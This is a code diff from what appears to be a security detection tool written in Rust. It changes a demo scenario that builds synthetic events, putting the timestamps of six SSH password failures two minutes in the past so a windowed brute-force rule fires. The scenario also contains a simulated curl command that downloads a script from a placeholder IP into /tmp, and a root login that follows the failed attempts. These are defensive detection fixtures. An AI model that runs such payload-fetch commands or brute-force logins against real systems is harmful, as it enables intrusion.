@@ -350,8 +350,13 @@ pub fn demo_scenario(host: &str, now_us: i64) -> Vec<Event> {
             proc_("/usr/bin/curl", "curl -fsSL http://198.51.100.7/x.sh -o /tmp/x.sh", "dev", "/usr/bin/bash"),
         ),
     ];
-    for _ in 0..6 {
-        events.push(next("auth_events", json!({"user": "admin", "src_ip": "203.0.113.9", "service": "ssh", "method": "password", "outcome": "failure"})));
+    // A brute force two minutes ago (its one-minute window is long closed by the events that
+    // follow at `now`, so the windowed rule fires right away).
+    let two_minutes_ago = (now_us - 120_000_000).div_euclid(60_000_000) * 60_000_000;
+    for i in 0..6 {
+        let mut row = json!({"user": "admin", "src_ip": "203.0.113.9", "service": "ssh", "method": "password", "outcome": "failure", "host": host});
+        row["ts"] = json!(two_minutes_ago + i * 2_000_000);
+        events.push(Event { table: "auth_events".into(), row });
     }
     events.extend([
         next("auth_events", json!({"user": "root", "src_ip": "203.0.113.9", "service": "ssh", "method": "password", "outcome": "success"})),
